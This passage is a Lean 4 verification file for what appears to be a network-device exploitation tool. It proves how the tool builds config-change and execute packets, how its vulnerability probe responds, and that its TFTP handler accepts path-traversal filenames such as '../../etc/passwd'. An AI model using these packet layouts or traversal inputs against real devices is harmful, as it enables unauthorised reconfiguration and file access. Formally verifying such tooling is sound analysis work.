      · rw [if_neg h1] at h
        by_cases h3 : (n * 10 + (c.val - 48)) % 2 ^ 64 < n * 10
            ∨ (n * 10 + (c.val - 48)) % 2 ^ 64 > 2 ^ 64 - 1
        · rw [if_pos h3] at h
          exact absurd (congrArg Prod.snd h) (by simp)
        · rw [if_neg h3] at h
          have h2 : (n * 10 + (c.val - 48)) % 2 ^ 64 = 10 * n + (c.val - 48) := by
            norm_num at h1 h3 ⊢; omega
          rw [h2] at h
          obtain ⟨g1, g2⟩ := ih _ v h
          refine ⟨?_, by simpa using g2⟩
          intro x hx
          rcases List.mem_cons.1 hx with hx | hx
          · rw [hx]; exact hc
          · exact g1 x hx
    · simp only [parseUintLoop] at h
      rw [if_neg hc] at h
      exact absurd (congrArg Prod.snd h) (by simp)

theorem parseInt_cases (s : List Byte) :
    parseInt s = (0, some .ErrSyntax) ∨ parseInt s = (2 ^ 63 - 1, some .ErrRange)
      ∨ parseInt s = (-(2 ^ 63), some .ErrRange) ∨ (parseInt s).2 = none := by
  unfold parseInt
  split
  · exact Or.inl rfl
  · simp only
    split_ifs <;> simp

theorem atoi_cases (s : List Byte) :
    atoi s = (0, some .ErrSyntax) ∨ atoi s = (2 ^ 63 - 1, some .ErrRange)
      ∨ atoi s = (-(2 ^ 63), some .ErrRange) ∨ (atoi s).2 = none := by
  by_cases hfast : 0 < s.length ∧ s.length < 19
  · cases s with
    | nil => simp at hfast
    | cons c cs =>
      simp only [atoi, hfast, and_self, if_true]
      by_cases hsign : (c = 45 ∨ c = 43) ∧ (if c = 45 ∨ c = 43 then cs else c :: cs).length < 1
      · rw [if_pos hsign]; exact Or.inl rfl
      · rw [if_neg hsign]
        cases hl : atoiFastLoop (if c = 45 ∨ c = 43 then cs else c :: cs) 0 with
        | none => exact Or.inl rfl
        | some n => by_cases h45 : c = 45 <;> simp [h45]
  · simp only [atoi, hfast, if_false]
    exact parseInt_cases s

theorem parseUintLoop_cases (s : List Byte) : ∀ n : Nat,
    (parseUintLoop s n).2 = none ∨ parseUintLoop s n = (0, some .ErrSyntax)
      ∨ parseUintLoop s n = (2 ^ 64 - 1, some .ErrRange) := by
  induction s with
  | nil => intro n; exact Or.inl rfl
  | cons c cs ih =>
    intro n
    simp only [parseUintLoop]
    split_ifs
    · exact Or.inr (Or.inr rfl)
    · exact Or.inr (Or.inr rfl)
    · exact ih _
    · exact Or.inr (Or.inl rfl)

theorem isDigits_of (s : List Byte) (hne : s ≠ []) (h : ∀ c ∈ s, 48 ≤ c.val ∧ c.val ≤ 57) :
    isDigits s = true := (isDigits_iff s).2 ⟨hne, h⟩

theorem parseUint_ok (s : List Byte) (v : Nat) (e : Option NumError)
    (hp : parseUint s = (v, e)) (he : e ≠ some .ErrSyntax)
    (hr : v < 2 ^ 64 - 1) : isDigits s = true ∧ v = decimalValue s := by
  cases s with
  | nil =>
    simp only [parseUint, List.isEmpty_nil, if_true, Prod.mk.injEq] at hp
    exact absurd hp.2.symm he
  | cons c cs =>
    simp only [parseUint, List.isEmpty_cons, Bool.false_eq_true, if_false] at hp
    rcases parseUintLoop_cases (c :: cs) 0 with h | h | h
    · rw [hp] at h
      simp only at h
      subst h
      obtain ⟨hd, hv⟩ := parseUintLoop_ok (c :: cs) 0 v hp
      exact ⟨isDigits_of _ (by simp) hd, hv⟩
    · rw [hp, Prod.mk.injEq] at h
      exact absurd h.2 he
    · rw [hp, Prod.mk.injEq] at h
      omega

theorem parseInt_ok (s : List Byte) (h : (parseInt s).2 = none) :
    integerValue s = some (parseInt s).1 := by
  cases s with
  | nil => simp [parseInt] at h
  | cons c cs =>
    simp only [parseInt] at h ⊢
    generalize hun : parseUint (if c = 43 ∨ c = 45 then cs else c :: cs) = un at h ⊢
    obtain ⟨v, e⟩ := un
    split_ifs at h ⊢ with h1 h2 h3 h4
    · have h45 : c = 45 := by simpa using h4
      subst h45
      have hv : v < 2 ^ 64 - 1 := by
        simp only [h4, true_and, not_lt, gt_iff_lt] at h3
        norm_num at h3 ⊢; omega
      have hd : isDigits cs = true ∧ v = decimalValue cs := by
        simpa using parseUint_ok _ v e hun h1 hv
      simp [integerValue, hd.1, hd.2]
    · have h45 : c ≠ 45 := by simpa using h4
      have hv : v < 2 ^ 64 - 1 := by
        simp only [h45, decide_False, Bool.not_false, true_and, not_le, ge_iff_le] at h2
        norm_num at h2 ⊢; omega
      have hd := parseUint_ok _ v e hun h1 hv
      by_cases h43 : c = 43
      · subst h43
        have hd1 : isDigits cs = true ∧ v = decimalValue cs := by simpa using hd
        simp [integerValue, hd1.1, hd1.2]
      · simp only [h43, h45, or_self, if_false] at hd
        simp [integerValue, h43, h45, hd.1, hd.2]

/-- When `strconv.Atoi` returns no error, its value is the integer the string
denotes. -/
theorem atoi_ok (s : List Byte) (h : (atoi s).2 = none) : integerValue s = some (atoi s).1 := by
  cases s with
  | nil => simp [atoi, parseInt] at h
  | cons c cs =>
    by_cases hfast : 0 < (c :: cs).length ∧ (c :: cs).length < 19
    · simp only [atoi, hfast, and_self, if_true] at h ⊢
      by_cases hs : c = 45 ∨ c = 43
      · simp only [hs, if_true, true_and] at h ⊢
        by_cases hcs : cs.length < 1
        · simp [hcs] at h
        · have hne : cs ≠ [] := by intro e; rw [e] at hcs; simp at hcs
          simp only [hcs, if_false] at h ⊢
          cases hl : atoiFastLoop cs 0 with
          | none => simp [hl] at h
          | some n =>
            obtain ⟨hd, hn⟩ := atoiFastLoop_some cs 0 n (by simpa using hl)
            have hdig := isDigits_of cs hne hd
            rcases hs with h45 | h43
            · subst h45
              simp [integerValue, hdig, hn, decimalValue]
            · subst h43
              simp [integerValue, hdig, hn, decimalValue]
      · have h45 : c ≠ 45 := fun e => hs (Or.inl e)
        have h43 : c ≠ 43 := fun e => hs (Or.inr e)
        simp only [hs, if_false, false_and] at h ⊢
        cases hl : atoiFastLoop (c :: cs) 0 with
        | none => simp [hl] at h
        | some n =>
          obtain ⟨hd, hn⟩ := atoiFastLoop_some (c :: cs) 0 n (by simpa using hl)
          have hdig := isDigits_of (c :: cs) (by simp) hd
          simp [integerValue, h45, h43, hdig, hn, decimalValue]
    · simp only [atoi, hfast, if_false] at h ⊢
      exact parseInt_ok _ h

theorem atoi_signed (c : Byte) (cs : List Byte) (hc : c = 43 ∨ c = 45)
    (hd : isDigits cs = true) (hv : decimalValue cs < 2 ^ 63 ∨ (c = 45 ∧ decimalValue cs = 2 ^ 63)) :
    atoi (c :: cs) = (if c = 45 then -(decimalValue cs : Int) else (decimalValue cs : Int), none) := by
  obtain ⟨hne, hall⟩ := (isDigits_iff cs).1 hd
  have hlen : ¬ cs.length < 1 := by
    cases cs with
    | nil => exact absurd rfl hne
    | cons _ _ => simp
  have hs : c = 45 ∨ c = 43 := hc.symm
  by_cases hfast : 0 < (c :: cs).length ∧ (c :: cs).length < 19
  · have hf := atoiFastLoop_digits cs 0 hall
    simp only [Nat.cast_zero] at hf
    simp only [atoi, hfast, and_self, if_true, hs, true_and, hlen, if_false, hf]
    split_ifs <;> rfl
  · have h64 : decimalValue cs < 2 ^ 64 := by
      rcases hv with hv | ⟨_, hv⟩
      · exact lt_trans hv (by norm_num)
      · rw [hv]; norm_num
    have hp := parseUintLoop_digits cs 0 hall h64
    have hemp : cs.isEmpty = false := by cases cs <;> simp_all
    have hun : parseUint cs = (decimalValue cs, none) := by
      simp only [parseUint, hemp, Bool.false_eq_true, if_false, hp, decimalValue]
    simp only [atoi, hfast, if_false, parseInt, hc, if_true, hun]
    rcases hc with h43 | h45
    · subst h43
      have hv1 : ¬ decimalValue cs ≥ 2 ^ 63 := by
        rcases hv with hv | ⟨h, _⟩
        · omega
        · exact absurd h (by decide)
      simp only [hv1]
      simp
    · subst h45
      have hv1 : ¬ decimalValue cs > 2 ^ 63 := by
        rcases hv with hv | ⟨_, hv⟩ <;> omega
      simp only [hv1]
      simp

/-- `strconv.Atoi` on a string that denotes an integer of the 64-bit range
returns that integer and no error. -/
theorem atoi_integer (s : List Byte) (v : Int) (hs : integerValue s = some v)
    (hlo : -(2 ^ 63) ≤ v) (hhi : v < 2 ^ 63) : atoi s = (v, none) := by
  cases s with
  | nil => simp [integerValue] at hs
  | cons c cs =>
    simp only [integerValue] at hs
    split_ifs at hs with h43 hd h45 hd hd
    · simp only [Option.some.injEq] at hs
      subst h43
      rw [atoi_signed 43 cs (Or.inl rfl) hd (Or.inl (by omega))]
      simp [hs]
    · simp only [Option.some.injEq] at hs
      subst h45
      have hv : decimalValue cs < 2 ^ 63 ∨ ((45 : Byte) = 45 ∧ decimalValue cs = 2 ^ 63) := by
        by_cases hlt : decimalValue cs < 2 ^ 63
        · exact Or.inl hlt
        · refine Or.inr ⟨rfl, ?_⟩
          norm_num at hlt hlo ⊢
          omega
      rw [atoi_signed 45 cs (Or.inr rfl) hd hv]
      simp [hs]
    · simp only [Option.some.injEq] at hs
      rw [atoi_digits (c :: cs) hd (by omega), hs]

theorem stringsSplit_head (sep : Byte) (s : List Byte) :
    ∃ rest, stringsSplit sep s = s.takeWhile (fun c => c != sep) :: rest := by
  induction s with
  | nil => exact ⟨[], rfl⟩
  | cons c cs ih =>
    obtain ⟨rest, hr⟩ := ih
    by_cases hc : c = sep
    · exact ⟨stringsSplit sep cs, by simp [stringsSplit, hc]⟩
    · exact ⟨rest, by simp [stringsSplit, hc, hr]⟩

theorem stringsSplit_of_mem (sep : Byte) (s : List Byte) (h : sep ∈ s) :
    stringsSplit sep s = s.takeWhile (fun c => c != sep)
      :: stringsSplit sep ((s.dropWhile (fun c => c != sep)).drop 1) := by
  induction s with
  | nil => simp at h
  | cons c cs ih =>
    by_cases hc : c = sep
    · simp [stringsSplit, hc]
    · have hm : sep ∈ cs := by
        rcases List.mem_cons.1 h with e | e
        · exact absurd e.symm hc
        · exact e
      simp [stringsSplit, hc, ih hm]

/-- With a colon in the reload time, `parts[0]` and `parts[1]` are the hour and
minute components. -/
theorem stringsSplit_reloadTime (reloadTime : List Byte) (h : (58 : Byte) ∈ reloadTime) :
    ∃ rest, stringsSplit 58 reloadTime
      = hourComponent reloadTime :: minuteComponent reloadTime :: rest := by
  obtain ⟨rest, hr⟩ := stringsSplit_head 58
    ((reloadTime.dropWhile (fun c => c != 58)).drop 1)
  exact ⟨rest, by rw [stringsSplit_of_mem 58 reloadTime h, hr]; rfl⟩

theorem buildChangeConfigPacket_parts (tftpPath reloadTime p0 p1 : List Byte)
    (rest : List (List Byte)) (hL : tftpPath.length ≤ 264)
    (hs : stringsSplit 58 reloadTime = p0 :: p1 :: rest) :
    buildChangeConfigPacket tftpPath reloadTime
      = some (changeConfigHeaderBytes
          ++ [toByte (atoi p0).1, 0, 0, 0, 0, 0, toByte (atoi p1).1, 0]
          ++ zeros 264 ++ tftpPath ++ zeros (264 - tftpPath.length)) := by
  have hmk := makeBytes_of_le 264 tftpPath.length hL
  simp only [Nat.cast_ofNat] at hmk
  simp [buildChangeConfigPacket, hs, changeConfigHeader_decoded, hmk]

theorem atoi_error_bytes (c : List Byte) :
    ((atoi c).2 = some .ErrSyntax → toByte (atoi c).1 = 0)
      ∧ ((atoi c).2 = some .ErrRange → toByte (atoi c).1 = 255 ∨ toByte (atoi c).1 = 0) := by
  rcases atoi_cases c with h | h | h | h
  · rw [h]; exact ⟨fun _ => by decide, fun e => absurd e (by simp)⟩
  · rw [h]; exact ⟨fun e => absurd e (by simp), fun _ => Or.inl (by decide)⟩
  · rw [h]; exact ⟨fun e => absurd e (by simp), fun _ => Or.inr (by decide)⟩
  · rw [h]; exact ⟨fun e => absurd e (by simp), fun e => absurd e (by simp)⟩

/-- C8, as amended. For every reload time that contains a colon (and a URL that
fits its field) `buildChangeConfigPacket` returns a packet whose hour and
minute bytes are the values `strconv.Atoi` returns for the two components,
modulo 256. For every component: when it denotes an integer of the 64-bit range
`Atoi` returns that integer; when `Atoi` returns no error its value is the
integer the component denotes; on a syntax error the byte is 0; on a range
error the byte is 255 or 0. -/
theorem buildChangeConfigPacket_reloadTime (tftpPath reloadTime : List Byte)
    (hL : tftpPath.length ≤ 264) (hcolon : (58 : Byte) ∈ reloadTime) :
    ∃ packet, buildChangeConfigPacket tftpPath reloadTime = some packet
      ∧ (packet.drop 42).take 8
          = [toByte (atoi (hourComponent reloadTime)).1, 0, 0, 0, 0, 0,
             toByte (atoi (minuteComponent reloadTime)).1, 0]
      ∧ ∀ c : List Byte,
          (∀ v : Int, integerValue c = some v → -(2 ^ 63) ≤ v → v < 2 ^ 63 →
              atoi c = (v, none))
          ∧ ((atoi c).2 = none → integerValue c = some (atoi c).1)
          ∧ ((atoi c).2 = some .ErrSyntax → toByte (atoi c).1 = 0)
          ∧ ((atoi c).2 = some .ErrRange → toByte (atoi c).1 = 255 ∨ toByte (atoi c).1 = 0) := by
  obtain ⟨rest, hs⟩ := stringsSplit_reloadTime reloadTime hcolon
  refine ⟨_, buildChangeConfigPacket_parts tftpPath reloadTime _ _ rest hL hs, ?_, ?_⟩
  · have := drop_take_middle changeConfigHeaderBytes
      [toByte (atoi (hourComponent reloadTime)).1, 0, 0, 0, 0, 0,
        toByte (atoi (minuteComponent reloadTime)).1, 0]
      (zeros 264 ++ tftpPath ++ zeros (264 - tftpPath.length))
    simpa only [List.append_assoc] using this
  · intro c
    exact ⟨fun v hv hlo hhi => atoi_integer c v hv hlo hhi, atoi_ok c,
      (atoi_error_bytes c).1, (atoi_error_bytes c).2⟩

/-- C8 fails as stated. A reload time without a colon makes the builder panic
on `parts[1]`, and a component above the 64-bit range fails to parse and yet
gives the byte 255, not 0. -/
theorem buildChangeConfigPacket_reloadTime_not_total :
    buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf") (str "0001") = none
      ∧ buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf") (str "") = none
      ∧ (atoi (str "99999999999999999999")).2 = some .ErrRange
      ∧ (buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf")
            (str "99999999999999999999:00")).map (fun p => (p.drop 42).take 8)
          = some [255, 0, 0, 0, 0, 0, 0, 0] := by
  decide

/-- Reload time `300:7x`: the hour 300 wraps to 44, the minute `7x` is no
integer and gives 0. -/
theorem buildChangeConfigPacket_reloadTime_witness :
    (str "tftp://10.0.0.1/default.conf").length ≤ 264 ∧ (58 : Byte) ∈ str "300:7x"
      ∧ ∃ packet, buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf") (str "300:7x")
            = some packet
          ∧ (packet.drop 42).take 8 = [44, 0, 0, 0, 0, 0, 0, 0] :=
  ⟨by decide, by decide,
   match buildChangeConfigPacket_reloadTime (str "tftp://10.0.0.1/default.conf") (str "300:7x")
      (by decide) (by decide) with
   | ⟨packet, h1, h2, _⟩ => ⟨packet, h1, h2.trans (by decide)⟩⟩

/-- C9 fails as stated for the Execute encoder. `buildExecutePacket` takes no
reload time; its packet for `tftp://10.0.0.1/execute.txt` has no byte 12 and no
byte 34, so for the reload time `12:34` it has no field with the hour at byte 0
and the minute at byte 6. -/
theorem buildExecutePacket_no_time_field :
    ∃ packet, buildExecutePacket (str "tftp://10.0.0.1/execute.txt") = some packet
      ∧ (12 : Byte) ∉ packet ∧ (34 : Byte) ∉ packet :=
  ⟨_, buildExecutePacket_eq (str "tftp://10.0.0.1/execute.txt") (by decide),
    by decide, by decide⟩

/-- C9, as amended. For every reload time made of an hour numeral, a colon and a
minute numeral, both at most 255, the packet of `buildChangeConfigPacket` has
right after its 42-byte header an 8-byte field with the hour at byte 0, the
minute at byte 6, and zero at bytes 1 to 5 and 7. `buildExecutePacket` takes no
reload time: the 392 bytes between its header and the URL are zero. -/
theorem buildChangeConfigPacket_timeField (tftpPath hh mm : List Byte)
    (hL : tftpPath.length ≤ 264)
    (hhd : isDigits hh = true) (hh255 : decimalValue hh ≤ 255)
    (hmd : isDigits mm = true) (hm255 : decimalValue mm ≤ 255) :
    (∃ packet, buildChangeConfigPacket tftpPath (hh ++ 58 :: mm) = some packet
        ∧ packet.take 42 = changeConfigHeaderBytes
        ∧ ((packet.drop 42).take 8).map Fin.val
            = [decimalValue hh, 0, 0, 0, 0, 0, decimalValue mm, 0])
      ∧ ∀ url : List Byte, url.length ≤ 131 →
          ∃ packet, buildExecutePacket url = some packet
            ∧ (packet.drop 20).take 392 = zeros 392 := by
  constructor
  · refine ⟨_, buildChangeConfigPacket_numerals tftpPath hh mm hL hhd
      (lt_of_le_of_lt hh255 (by norm_num)) hmd (lt_of_le_of_lt hm255 (by norm_num)), ?_, ?_⟩
    · simp only [List.append_assoc]
      exact List.take_left' rfl
    · have := drop_take_middle changeConfigHeaderBytes
        [toByte (decimalValue hh : Nat), 0, 0, 0, 0, 0, toByte (decimalValue mm : Nat), 0]
        (zeros 264 ++ tftpPath ++ zeros (264 - tftpPath.length))
      simp only [List.append_assoc] at this ⊢
      rw [show (42 : Nat) = changeConfigHeaderBytes.length from rfl,
        show (8 : Nat) = [toByte (decimalValue hh : Nat), 0, 0, 0, 0, 0,
          toByte (decimalValue mm : Nat), 0].length from rfl, this]
      simp [toByte_nat_val _ hh255, toByte_nat_val _ hm255]
  · intro url hurl
    refine ⟨_, buildExecutePacket_eq url hurl, ?_⟩
    have := drop_take_middle executeHeaderBytes (zeros 128 ++ zeros 264)
      (url ++ zeros (131 - url.length) ++ [1])
    have hlen : (zeros 128 ++ zeros 264).length = 392 := by simp [zeros_length]
    rw [hlen] at this
    have hz : zeros 128 ++ zeros 264 = zeros 392 := by
      simp only [zeros, ← List.replicate_add]
    rw [hz] at this
    simpa only [List.append_assoc, hz] using this

/-- Reload time `23:59`. -/
theorem buildChangeConfigPacket_timeField_witness :
    (str "tftp://10.0.0.1/default.conf").length ≤ 264
      ∧ isDigits (str "23") = true ∧ decimalValue (str "23") ≤ 255
      ∧ isDigits (str "59") = true ∧ decimalValue (str "59") ≤ 255
      ∧ ∃ packet, buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf")
            (str "23" ++ 58 :: str "59") = some packet
          ∧ ((packet.drop 42).take 8).map Fin.val = [23, 0, 0, 0, 0, 0, 59, 0] :=
  ⟨by decide, by decide, by decide, by decide, by decide,
   match (buildChangeConfigPacket_timeField (str "tftp://10.0.0.1/default.conf") (str "23")
      (str "59") (by decide) (by decide) (by decide) (by decide) (by decide)).1 with
   | ⟨packet, h1, _, h3⟩ => ⟨packet, h1, h3⟩⟩

/-! ### The probe constants -/

/-- A run of `testSingleDevice` whose connection and write succeed: the request
sent and the outcome. -/
theorem testSingleDevice_run (conn : List (List Byte)) :
    testSingleDevice true true conn
      = ⟨testData,
          if conn.flatten.length < expectedData.length then ProbeOutcome.NotVulnerable
          else if conn.flatten.take expectedData.length = expectedData then
            ProbeOutcome.Vulnerable
          else ProbeOutcome.Ambiguous⟩ := by
  have h1 : (hexDecodeString testPacket).2 = false := by decide
  have h2 : (hexDecodeString expectedResponse).2 = false := by decide
  have h3 : (hexDecodeString expectedResponse).1 = expectedData := rfl
  have h4 : (hexDecodeString testPacket).1 = testData := rfl
  simp only [testSingleDevice, h1, h2, h3, h4, readAtLeast_spec, Bool.false_eq_true, if_false,
    Bool.not_true]
  generalize conn.flatten = s
  by_cases h : s.length < expectedData.length
  · simp [h]
  · simp only [h, decide_False, Bool.false_eq_true, if_false]
    split <;> rfl

/-- C11 fails as stated. The probe request that `testSingleDevice` sends and the
pattern it expects have 28 bytes each, not 27. -/
theorem probe_constants_not_27 :
    (testSingleDevice true true [expectedData]).sent.length = 28
      ∧ expectedData.length = 28
      ∧ (testSingleDevice true true [expectedData]).sent.length ≠ 27
      ∧ expectedData.length ≠ 27 := by
  decide

/-- C11, as amended. The probe request that `testSingleDevice` sends is a
constant of 28 bytes, the pattern it expects is a constant of 28 bytes, and a
responder that returns the expected pattern, in however many pieces, is
classified `Vulnerable`. -/
theorem testSingleDevice_expected_pattern (conn : List (List Byte))
    (h : conn.flatten = expectedData) :
    testSingleDevice true true conn = ⟨testData, ProbeOutcome.Vulnerable⟩
      ∧ testData.length = 28
      ∧ expectedData.length = 28 := by
  refine ⟨?_, by decide, by decide⟩
  rw [testSingleDevice_run, h]
  simp

/-- The expected pattern arriving in two pieces of 10 and 18 bytes. -/
theorem testSingleDevice_expected_pattern_witness :
    [expectedData.take 10, expectedData.drop 10].flatten = expectedData
      ∧ testSingleDevice true true [expectedData.take 10, expectedData.drop 10]
        = ⟨[0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 4, 0, 0, 0, 8, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0],
            ProbeOutcome.Vulnerable⟩ :=
  ⟨by decide,
   (testSingleDevice_expected_pattern [expectedData.take 10, expectedData.drop 10]
      (by decide)).1.trans (by decide)⟩

/-! ### Request dispatch -/

theorem handleReadRequest_no_nul (fuel : Nat) (fs : FileSystem) (data : List Byte)
    (h : (0 : Byte) ∉ data) : handleReadRequest fuel fs data = some Handled.nothing := by
  simp [handleReadRequest, stringsSplit_no_sep 0 data h]

theorem handleWriteRequest_no_nul (fs : FileSystem) (data : List Byte) (clientAddr : UDPAddr)
    (inbound : List Inbound) (h : (0 : Byte) ∉ data) :
    handleWriteRequest fs data clientAddr inbound = Handled.nothing := by
  simp [handleWriteRequest, stringsSplit_no_sep 0 data h]

/-- C12 fails as stated. A read request for `a` with no mode string is served
from `tftp/a`; a write request with an empty filename is answered with an error
datagram after `os.Create` was tried on `tftp`; a write request whose mode is
not null-terminated creates `tftp/a` and is acknowledged. -/
theorem handleRequest_incomplete_request_served :
    handleRequest 1
        ⟨fun p => if p = str "tftp/a" then some (.regular [7]) else none,
          fun p => decide (p ≠ str "tftp")⟩
        ([0, 1] ++ str "a" ++ [0]) ⟨[10, 0, 0, 2], 4000⟩ []
        = some ⟨[str "tftp/a"], [], [], [[0, 3, 0, 1, 7]]⟩
      ∧ handleRequest 1
        ⟨fun p => if p = str "tftp/a" then some (.regular [7]) else none,
          fun p => decide (p ≠ str "tftp")⟩
        ([0, 2, 0] ++ str "octet" ++ [0]) ⟨[10, 0, 0, 2], 4000⟩ []
        = some ⟨[], [str "tftp"], [], [errorPacket 2 (str "Cannot create file")]⟩
      ∧ handleRequest 1
        ⟨fun p => if p = str "tftp/a" then some (.regular [7]) else none,
          fun p => decide (p ≠ str "tftp")⟩
        ([0, 2] ++ str "a" ++ [0] ++ str "octet") ⟨[10, 0, 0, 2], 4000⟩ []
        = some ⟨[], [str "tftp/a"], [], [[0, 4, 0, 0]]⟩ := by
  decide

/-- C12, as amended. A datagram shorter than 4 bytes, or with a big-endian
opcode other than 1 and 2, or with no zero byte after the opcode (a filename
that is not null-terminated) is dropped: no reply is sent and no file is opened
or created. -/
theorem handleRequest_malformed_dropped (fuel : Nat) (fs : FileSystem) (data : List Byte)
    (clientAddr : UDPAddr) (inbound : List Inbound)
    (h : data.length < 4 ∨ (opcodeOf data ≠ 1 ∧ opcodeOf data ≠ 2) ∨ (0 : Byte) ∉ data.drop 2) :
    handleRequest fuel fs data clientAddr inbound = some Handled.nothing := by
  by_cases hlen : data.length < 4
  · simp only [handleRequest, hlen, if_true]
  · simp only [handleRequest, hlen, if_false, shl8_or]
    rcases h with h | h | h
    · exact absurd h hlen
    · simp only [opcodeOf] at h
      rw [if_neg h.1, if_neg h.2]
    · rw [handleReadRequest_no_nul fuel fs _ h, handleWriteRequest_no_nul fs _ clientAddr inbound h]
      simp

/-- A three-byte datagram, an acknowledgment (opcode 4) and a read request
`ab` without any zero byte are all dropped. -/
theorem handleRequest_malformed_dropped_witness :
    (([0, 1, 97] : List Byte).length < 4
        ∨ (opcodeOf [0, 1, 97] ≠ 1 ∧ opcodeOf [0, 1, 97] ≠ 2)
        ∨ (0 : Byte) ∉ ([0, 1, 97] : List Byte).drop 2)
      ∧ handleRequest 1 ⟨fun _ => some (.regular [7]), fun _ => true⟩ [0, 1, 97]
          ⟨[10, 0, 0, 2], 4000⟩ [] = some Handled.nothing
      ∧ handleRequest 1 ⟨fun _ => some (.regular [7]), fun _ => true⟩ [0, 4, 0, 1]
          ⟨[10, 0, 0, 2], 4000⟩ [] = some Handled.nothing
      ∧ handleRequest 1 ⟨fun _ => some (.regular [7]), fun _ => true⟩ ([0, 1] ++ str "ab")
          ⟨[10, 0, 0, 2], 4000⟩ [] = some Handled.nothing :=
  ⟨by decide,
   handleRequest_malformed_dropped _ _ _ _ _ (by decide),
   handleRequest_malformed_dropped _ _ _ _ _ (by decide),
   handleRequest_malformed_dropped _ _ _ _ _ (by decide)⟩

/-! ### Paths of the staging directory -/

/-- C13 fails on the code. `filepath.Join("tftp", filename)` leaves the staging
directory for a filename with `..` elements and is the directory itself for an
empty filename; a write request for `../evil` creates `evil` beside the staging
directory and a read request with an empty filename opens `tftp`. -/
theorem staging_path_not_confined :
    filepathJoin [str "tftp", str "../secret.conf"] = str "secret.conf"
      ∧ filepathJoin [str "tftp", str "../../etc/passwd"] = str "../etc/passwd"
      ∧ filepathJoin [str "tftp", str ""] = str "tftp"
      ∧ handleRequest 1 ⟨fun _ => none, fun _ => true⟩
          ([0, 2] ++ str "../evil" ++ [0] ++ str "octet" ++ [0]) ⟨[10, 0, 0, 2], 4000⟩ []
        = some ⟨[], [str "evil"], [], [[0, 4, 0, 0]]⟩
      ∧ handleRequest 1 ⟨fun p => if p = str "tftp" then some .unreadable else none, fun _ => true⟩
          ([0, 1, 0] ++ str "octet" ++ [0]) ⟨[10, 0, 0, 2], 4000⟩ []
        = some ⟨[str "tftp"], [], [], [errorPacket 0 (str "Read error")]⟩ := by
  decide

end GoSIET
